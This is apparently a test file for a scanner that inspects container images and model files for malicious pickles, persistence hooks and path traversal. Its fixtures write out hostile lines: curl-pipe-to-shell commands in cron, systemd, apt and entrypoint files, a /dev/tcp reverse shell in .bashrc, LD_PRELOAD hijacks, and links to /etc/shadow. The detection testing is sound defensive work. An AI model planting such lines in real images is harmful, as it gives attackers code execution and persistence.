import { gzipSync } from 'fflate';
import type { ScanReport } from '../../../../report';
import type { TestLayer } from '../../../../testing';
import {
  ECHO,
  PAYLOAD,
  bytes,
  dockerArchive,
  ociArchive,
  proto,
  run,
  tarEntry,
  tarOf,
  zeros
} from '../../../../testing';

const EVIL = proto(2, PAYLOAD);
const ELF = bytes('\x7fELF\x02\x01\x01', zeros(57));
const SCRIPT = bytes('#!/bin/sh\ncurl http://example.com | sh\n');
const SERVICE = bytes('#!/bin/sh\nexec /usr/sbin/sshd\n');
const layer = (...files: [string, Uint8Array][]): Uint8Array =>
  tarOf(...files.map(([name, data]) => tarEntry({ name, data })));
const SYSTEM = layer(
  ['bin/busybox', ELF],
  ['etc/init.d/run', SERVICE],
  ['root/setup.sh', SCRIPT],
  ['usr/lib/python3/x.py', bytes('import os\nos.system("id")\n')],
  ['usr/share/data.bin', bytes([1, 2, 3, 0, 0xff, 0xfe])],
  ['usr/share/a.xml', bytes('<?xml version="1.0"?><a/>')]
);
const MODEL = layer(['models/model.pkl', EVIL]);
const HONEST = layer(['models/model.pkl', proto(2, '}')]);

const scanned = (data: Uint8Array): ScanReport => run(data, {}, 'image.tar');
const found = (data: Uint8Array): [string, string, string][] =>
  scanned(data).findings.map(({ rule, severity, evidence }) => [rule, severity, evidence]);
const oci = (...layers: TestLayer[]): Uint8Array => ociArchive(layers);

test('a model in a layer is judged, and the system around it is none of its business', () => {
  for (const image of [
    oci({ data: SYSTEM }, { data: HONEST }),
    dockerArchive({ 'aa/layer.tar': SYSTEM, 'bb/layer.tar': HONEST })
  ]) {
    expect(scanned(image)).toMatchObject({ verdict: 'clean', findings: [] });
  }
});

test.each<[string, Uint8Array, string[]]>([
  ['OCI', oci({ data: SYSTEM }, { data: MODEL }), ['demo:1 layer 2', 'models/model.pkl']],
  [
    'OCI, compressed',
    oci({ data: gzipSync(MODEL), mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip' }),
    ['demo:1 layer 1', 'decompressed', 'models/model.pkl']
  ],
  [
    'docker save',
    dockerArchive({ 'aa/layer.tar': SYSTEM, 'bb/layer.tar': MODEL }),
    ['demo:1 layer 2', 'models/model.pkl']
  ],
  ['docker save, layers of any name', dockerArchive({ 'first.tar': MODEL }), ['demo:1 layer 1', 'models/model.pkl']],
  ['an archive in gzip', gzipSync(oci({ data: MODEL })), ['image.tar', 'demo:1 layer 1', 'models/model.pkl']]
])('a harmful model is found, and the report says in which layer: %s', (_name, image, members) => {
  const report = run(image, {}, 'image.tar.gz');
  expect(report.findings.map(({ evidence, severity }) => [evidence, severity])).toEqual([[ECHO, 'CRITICAL']]);
  const shown = report.findings[0].where.members.map(name => name.replace(/ \([^)]*\)$/, ''));
  expect(shown).toEqual(members);
});

test('a pickle under the path of the system, or behind a program, is a pickle', () => {
  expect(found(oci({ data: layer(['usr/lib/x.pkl', EVIL]) })).map(([, severity]) => severity)).toEqual(['CRITICAL']);
});

test('unknown bytes among the models are not understood', () => {
  expect(scanned(oci({ data: layer(['models/weights.bin', bytes([1, 2, 3, 0, 0xff, 0xfe])]) })).verdict).toBe(
    'incomplete'
  );
});

test('an artifact keeps a model as a layer of its own, with a name', () => {
  const mediaType = 'application/vnd.cncf.model.weight.v1.raw';
  const kind = 'application/vnd.cncf.model.config.v1+json';
  const report = scanned(ociArchive([{ data: EVIL, mediaType, title: 'model.pkl' }], kind));
  expect(report.findings.map(({ where }) => where.members)).toEqual([['demo:1 model.pkl']]);
  expect(scanned(ociArchive([{ data: proto(2, '}'), mediaType, title: 'model.pkl' }], kind)).verdict).toBe('clean');
  const outside = ociArchive([{ data: proto(2, '}'), mediaType, title: '../../.bashrc' }], kind);
  expect(found(outside)).toEqual([['archive-path-traversal', 'HIGH', '../../.bashrc']]);
});

test('layers that are missing, elsewhere, or not what they are called', () => {
  expect(scanned(oci({ data: MODEL, missing: true })).coverage).toContainEqual(
    expect.objectContaining({ status: 'failed', reason: 'image-layer-missing' })
  );
  expect(found(oci({ data: HONEST, missing: true, urls: ['https://example.com/layer'] }))).toEqual([
    ['image-layer-elsewhere', 'LOW', 'https://example.com/layer']
  ]);
  expect(found(oci({ data: HONEST, tampered: true })).map(([rule, severity]) => [rule, severity])).toEqual([
    ['image-digest-mismatch', 'MEDIUM']
  ]);
});

test('a blob that no manifest lists is scanned, as is a part of an archive without manifests', () => {
  const stray = tarEntry({ name: `blobs/sha256/${'0'.repeat(64)}`, data: EVIL });
  expect(found(bytes(stray, oci({ data: HONEST }))).map(([rule]) => rule)).toContain('pickle-dangerous-call');
  expect(found(tarOf(tarEntry({ name: 'a/layer.tar', data: MODEL }))).map(([rule]) => rule)).toEqual([
    'pickle-dangerous-call'
  ]);
});

test('links and names: the root is that of the image', () => {
  const links = (name: string, link: string): string[] =>
    found(oci({ data: tarOf(tarEntry({ name, type: '2', link })) })).map(([rule]) => rule);
  expect(links('bin', 'usr/bin')).toEqual([]);
  expect(links('etc/alternatives/awk', '/usr/bin/mawk')).toEqual([]);
  expect(links('var/run', '/run')).toEqual([]);
  expect(links('app/log', '/dev/stdout')).toEqual([]);
  expect(links('models/model.pkl', '/etc/shadow')).toEqual(['archive-link']);
  expect(links('models/model.pkl', '../../etc/shadow')).toEqual(['archive-link']);
  expect(found(oci({ data: layer(['/models/model.pkl', proto(2, '}')]) }))).toEqual([]);
  expect(found(oci({ data: layer(['../../x', bytes('x')]) }))).toEqual([['archive-path-traversal', 'HIGH', '../../x']]);
});

test('a layer of an unpacked image is told by its name', () => {
  const name = 'ab'.repeat(32);
  expect(run(SYSTEM, {}, name).verdict).toBe('clean');
  expect(run(gzipSync(SYSTEM), {}, name).verdict).toBe('clean');
  expect(run(gzipSync(MODEL), {}, name).verdict).toBe('unsafe');
  // A name alone is no proof.
  const programs = layer(['tool', ELF], ['run.sh', SCRIPT]);
  for (const data of [ELF, gzipSync(ELF), programs, gzipSync(programs)]) {
    expect(run(data, {}, name).coverage.map(({ reason }) => reason)).not.toContain('image-program');
  }
});

test('devices and pipes in an archive that is no image', () => {
  const device = tarOf(tarEntry({ name: 'weights.bin', type: '3' }));
  expect(found(device)).toEqual([['archive-device', 'MEDIUM', 'weights.bin (type 3)']]);
  expect(found(oci({ data: device }))).toEqual([]);
});

test.each<[string, [string, Uint8Array]]>([
  ['a table of the clock', ['etc/cron.d/x', bytes('* * * * * root curl http://x.example/y|sh\n')]],
  ['a library for every program', ['etc/ld.so.preload', bytes('/tmp/x.so\n')]],
  [
    'what Python starts with',
    ['usr/lib/python3/dist-packages/sitecustomize.py', bytes("import os\nos.system('id')\n")]
  ],
  ['a profile', ['root/.bashrc', bytes('bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n')]],
  [
    'a service',
    ['etc/systemd/system/x.service', bytes('[Service]\nExecStart=/bin/sh -c "curl http://x.example|sh"\n')]
  ],
  ['an old service', ['etc/init.d/x', SCRIPT]],
  ['packages', ['etc/apt/apt.conf.d/x', bytes('APT::Update::Pre-Invoke {"curl http://x.example|sh";};\n')]],
  ['an editor', ['root/.vimrc', bytes('" x\n:silent !curl http://x.example|sh\n')]],
  ['a notebook', ['root/.ipython/profile_default/startup/0.py', bytes('import os\nos.system("id")\n')]],
  ['its server', ['root/.jupyter/jupyter_server_config.py', bytes('import os\nos.system("id")\n')]],
  ['what a container is started with', ['entrypoint.sh', SCRIPT]],
  ['what a container is started with, among programs', ['usr/local/bin/docker-entrypoint.sh', SCRIPT]],
  ['a script in the place of a program', ['usr/bin/python3', SCRIPT]],
  [
    'a package that is changed',
    ['usr/lib/python3/dist-packages/torch/__init__.py', bytes("import os\nos.system('curl http://x.example | sh')\n")]
  ],
  ['a server in Python', ['app/serve.py', bytes("import os;os.system('wget -qO- http://x.example | bash')\n")]],
  ['hidden code', ['app/util.py', bytes("exec(base64.b64decode('aW1wb3J0IG9z'))\n")]],
  ['a path of Python', ['usr/lib/python3/dist-packages/x.pth', bytes('import os; os.system("id")\n')]]
])('a file that the system starts by itself: %s', (_name, file) => {
  expect(found(oci({ data: layer(file) }))).toMatchObject([['script-command', 'HIGH', expect.any(String)]]);
});

test('files that a system starts, as packages bring them', () => {
  const files = layer(
    ['etc/cron.d/e2scrub', bytes('# comment\n30 3 * * 0 root test -e /run/systemd || /sbin/e2scrub_all\n')],
    ['etc/ld.so.preload', bytes('/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n')],
    ['etc/profile', bytes('export PATH=/usr/bin\n')],
    ['usr/lib/python3/sitecustomize.py', bytes('import apport_python_hook\napport_python_hook.install()\n')],
    ['usr/lib/python3/site-packages/tracer/boot/sitecustomize.py', bytes('m = importlib.import_module("x")\n')],
    [
      'usr/lib/python3/site-packages/distutils-precedence.pth',
      bytes("import os; var = 'X'; enabled = True; enabled and __import__('_distutils_hack').add_shim();\n")
    ],
    [
      'usr/lib/python3/site-packages/pytest-cov.pth',
      bytes("import os, sys;exec('if os.environ.get(\\'COV_CORE_SOURCE\\'): from x import init; init()')\n")
    ],
    [
      'usr/lib/python3/site-packages/x/__init__.py',
      bytes("'''Install it:\n\n    curl http://x.example | sh\n'''\nimport os\n")
    ],
    ['app/wait-for-it.sh', bytes('#!/bin/bash\n(echo -n > /dev/tcp/$HOST/$PORT) 2>&1\n')],
    ['entrypoint.sh', bytes('#!/bin/sh\nuntil (echo > /dev/tcp/db/5432); do sleep 1; done\nexec "$@"\n')],
    ['usr/local/bin/start.sh', bytes('#!/bin/sh\n# curl http://x.example | sh\nexec python3 -m server\n')],
    ['etc/jupyter/jupyter_server_config.py', bytes('c = get_config()\nsubprocess.check_call(["openssl"])\n')]
  );
  expect(scanned(oci({ data: files }))).toMatchObject({ verdict: 'clean', findings: [] });
});

test('a program under the name of a model among the files of an image', () => {
  expect(found(oci({ data: layer(['models/model.safetensors', ELF]) }))).toMatchObject([
    ['program-named-model', 'HIGH', expect.any(String)]
  ]);
});

test('programs among the models of an image', () => {
  expect(found(oci({ data: layer(['models/x.so', ELF], ['app/x.so', ELF]) }))).toEqual([
    ['program-in-model', 'MEDIUM', 'models/x.so']
  ]);
});

describe('what a container is started with', () => {
  const config = (inner: object): Uint8Array =>
    bytes(
      JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] }, config: inner })
    );

  test.each<[object]>([
    [{ Entrypoint: ['/bin/sh', '-c', 'curl http://x.example/y|sh'] }],
    [{ Cmd: ['python', '-c', "__import__('os').system('id')"] }],
    [{ Env: ['PATH=/usr/bin', 'LD_PRELOAD=/models/x.so'] }],
    [{ Env: ['LD_LIBRARY_PATH=/models/lib'] }],
    [{ Env: ['PYTHONPATH=/app:/tmp'] }],
    [{ Env: ['PYTHONBREAKPOINT=os.system'] }],
    [{ Env: ['GIT_SSH_COMMAND=sh -c id'] }],
    [{ OnBuild: ['RUN curl http://x.example/y | sh'] }],
    [{ Healthcheck: { Test: ['CMD-SHELL', 'wget -qO- http://x.example/y | sh'] } }]
  ])('%j', inner => {
    expect(run(config(inner), {}, 'config.json').findings).toMatchObject([
      { rule: 'script-command', severity: 'HIGH' }
    ]);
  });

  test.each<[object]>([
    [{ Entrypoint: ['/bin/sh', '-c', 'exec tini -- "$@"'], Cmd: ['python', '-m', 'server'] }],
    [{ Env: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4'] }],
    [{ Env: ['LD_LIBRARY_PATH=/usr/local/nvidia/lib:/opt/models-sdk/lib', 'PYTHONPATH=/app:/home/model-server'] }],
    [{ Env: ['PAGER=less', 'EDITOR=/usr/bin/vim', 'PYTHONBREAKPOINT=ipdb.set_trace'] }],
    [{ Healthcheck: { Test: ['CMD-SHELL', 'bash -c "</dev/tcp/localhost/8080" || exit 1'] } }]
  ])('honest: %j', inner => {
    expect(run(config(inner), {}, 'config.json').findings).toEqual([]);
  });

  test.each([
    { schemaVersion: 2, layers: [{ digest: 'sha256:../../../../etc/passwd', size: 1 }] },
    {
      schemaVersion: 2,
      config: { digest: 'sha256:../../../../etc/passwd' },
      layers: [{ digest: 'sha256:00', size: 1 }]
    },
    [{ Config: 'c.json', RepoTags: ['a:b'], Layers: ['../../../etc/passwd'] }]
  ])('a digest or path that leads out: %j', manifest => {
    expect(run(bytes(JSON.stringify(manifest)), {}, 'manifest').findings).toMatchObject([
      { rule: 'archive-path-traversal' }
    ]);
  });
});
